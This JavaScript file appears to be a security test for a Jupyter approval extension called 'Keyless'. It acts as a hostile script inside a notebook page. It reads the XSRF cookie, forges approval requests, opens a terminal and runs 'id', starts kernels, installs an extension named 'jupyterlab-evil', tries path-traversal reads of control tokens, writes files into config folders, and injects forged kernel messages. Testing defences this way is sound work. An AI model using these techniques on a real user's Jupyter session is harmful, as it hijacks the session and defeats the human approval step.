// What a script in a trusted output can try with the person's Jupyter session.  Runs in the
// notebook page; each attempt leaves what it got in window.keylessAttempts.
(async () => {
  const config = JSON.parse(document.getElementById('jupyter-config-data').textContent);
  const base = config.baseUrl;
  const xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || '';
  const ask = async (method, path, body) => {
    const answer = await fetch(path.startsWith('http') ? path : base + path, {
      method,
      credentials: 'include',
      headers: { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf },
      body: body === undefined ? undefined : JSON.stringify(body)
    });
    return { status: answer.status, text: (await answer.text()).slice(0, 20000) };
  };
  const socket = (address, messages) =>
    new Promise(done => {
      const opened = new WebSocket(address);
      opened.onopen = () => {
        messages.forEach(message => opened.send(JSON.stringify(message)));
        setTimeout(() => { opened.close(); done({ status: 'opened' }); }, 700);
      };
      opened.onerror = () => done({ status: 'refused' });
    });
  const attempts = {};
  const attempt = async (name, what) => {
    try {
      attempts[name] = await what();
    } catch (error) {
      attempts[name] = { status: 'failed', text: String(error) };
    }
  };

  // It waits for its moment: a question of the same kernel, which is busy then.
  let seen, kernel;
  do {
    await new Promise(wait => setTimeout(wait, 200));
    attempts.look = await ask('GET', 'keyless/api/kernels');
    seen = JSON.parse(attempts.look.text);
    kernel = seen.kernels[0];
  } while (!kernel.pending?.length);
  const yes = { id: kernel.pending[0].id, via: 'page', minutes: 60 };

  // The server's own addresses.
  for (const path of ['keyless/api/approve', `keyless/api/kernels/${kernel.id}/approve`, 'api/approve',
    'keyless/api/kernels', `keyless/api/kernels/${kernel.id}/audit`]) {
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
      await attempt(`${method} ${path}`, () => ask(method, path, yes));
    }
  }

  // Becoming the person: a shell, a kernel without a sandbox, a package.
  await attempt('terminal', () => ask('POST', 'api/terminals', {}));
  const ws = location.origin.replace('http', 'ws') + base;
  await attempt('terminal socket', () => socket(ws + 'terminals/websocket/1', [['stdin', 'id\r']]));
  for (const name of ['python3', 'Python3']) {
    await attempt(`kernel ${name}`, () => ask('POST', 'api/kernels', { name }));
    await attempt(`session ${name}`, () => ask('POST', 'api/sessions',
      { path: 'evil', name: '', type: 'console', kernel: { name } }));
  }
  await attempt('install', () => ask('POST', 'lab/api/extensions',
    { cmd: 'install', extension_name: 'jupyterlab-evil' }));

  // The token of the control socket, and files that are programs.
  for (const path of ['../runtime', '%2e%2e/runtime', '..%2fruntime', '.jupyter', '.ipython']) {
    for (const way of ['api/contents/', 'files/']) {
      await attempt(`read ${way}${path}`,
        () => ask('GET', `${way}${path}/keyless/${kernel.id}/control.token`));
    }
    await attempt(`write ${path}`, () => ask('PUT', `api/contents/${path}/evil.py`,
      { type: 'file', format: 'text', content: 'import os' }));
  }

  // The kernel's own channels: answers to questions that nobody put there, and comms.
  const message = (type, channel, content) => ({
    channel, content, buffers: [], metadata: {}, parent_header: {},
    header: { msg_id: crypto.randomUUID(), msg_type: type, session: 'evil', username: 'evil',
      version: '5.4', date: new Date().toISOString() }
  });
  attempts.channels = await socket(`${ws}api/kernels/${kernel.id}/channels`, [
    message('input_reply', 'stdin', { status: 'ok', value: 'yes' }),
    message('input_reply', 'stdin', { status: 'ok', value: yes.id }),
    message('comm_open', 'shell',
      { comm_id: 'evil', target_name: 'keyless.approve', data: yes }),
    message('comm_msg', 'control', { comm_id: 'evil', data: yes }),
    message('approve', 'control', yes)
  ]);

  // The approval page: another origin.  A script doesn't have its token.
  const page = seen.page.url;
  if (page) {
    for (const path of ['api/approve', `api/kernels/${kernel.id}/approve`, 'api/deny', '']) {
      await attempt(`page ${path}`, () => ask('POST', page + path, { ...yes, kernel: kernel.id }));
      await attempt(`page blind ${path}`, async () => {
        await fetch(page + path, { method: 'POST', mode: 'no-cors', credentials: 'include',
          body: JSON.stringify({ ...yes, kernel: kernel.id }) });
        return { status: 'sent' };
      });
    }
    await attempt('page socket', () => socket(page.replace('http', 'ws') + 'api/events', [yes]));
    await attempt('page frame', () => new Promise(done => {
      const frame = document.createElement('iframe');
      frame.src = page;
      frame.onload = () => {
        let inside = 'nothing';
        try {
          inside = frame.contentDocument ? frame.contentDocument.body.innerText : 'nothing';
        } catch {
          inside = 'nothing';
        }
        done({ status: inside || 'nothing' });
      };
      document.body.append(frame);
    }));
    await attempt('page window', async () => {
      const opened = window.open(page);
      await new Promise(wait => setTimeout(wait, 700));
      opened?.postMessage(yes, '*');
      return { status: opened ? 'opened' : 'refused' };
    });
  }

  // Whatever Keyless drew here: there is nothing to press that answers.
  const own = '[class*=keyless] button, button[class*=keyless], .jp-toast-button';
  document.querySelectorAll(own).forEach(button => button.click());
  window.keylessAttempts = attempts;
})();
